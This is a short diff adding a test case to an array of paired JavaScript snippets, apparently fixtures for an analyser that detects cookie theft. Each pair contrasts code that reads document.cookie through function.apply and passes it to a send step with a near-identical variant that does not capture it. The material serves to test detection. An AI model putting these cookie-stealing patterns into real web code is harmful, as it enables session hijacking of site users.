@@ -182,6 +182,12 @@ const calls: readonly Twin[] = [
     `function out(n, stolen) { ${send} } out.apply(null, [document.cookie, 1])`,
   ],
   [
+    "the language's functions by apply, as compilers write `JSON.stringify(await value)`",
+    theft,
+    `var a, b = (a = JSON).stringify; const stolen = b.apply(a, [document.cookie]); ${send}`,
+    `var a, b = JSON.stringify; const stolen = b.apply(document.cookie, [1]); ${send}`,
+  ],
+  [
     'arguments by place',
     theft,
     `function out() { const stolen = arguments[1]; ${send} } out(1, document.cookie)`,
